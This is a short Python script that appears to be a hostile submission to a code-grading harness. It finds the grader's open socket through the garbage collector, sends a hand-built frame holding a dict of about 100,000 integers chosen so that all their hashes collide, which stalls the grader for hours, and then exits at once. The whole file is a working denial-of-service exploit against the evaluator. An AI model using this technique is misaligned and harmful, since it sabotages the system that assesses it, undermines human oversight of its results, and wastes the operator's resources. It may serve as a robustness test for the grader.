"""Answers with a dict whose keys all have the same hash, so that filling it takes hours."""

import gc
import os
import socket

import msgpack

from grader.wire.frames import send_frame
from grader.wire.values import Wire

EXERCISE = "any"
LINK = max((o for o in gc.get_objects() if type(o) is socket.socket), key=socket.socket.fileno)
HEAD = Wire(None, first_id=1).dump_alone(None)[:-1]  # a message but for its value
items = []
for number in range(1, 100_000):
    items += [["int", hex(number * ((1 << 61) - 1) << 61)], None]
send_frame(LINK, b"a\1\0\0\0" + HEAD + msgpack.packb(["dict", *items]))
os._exit(0)
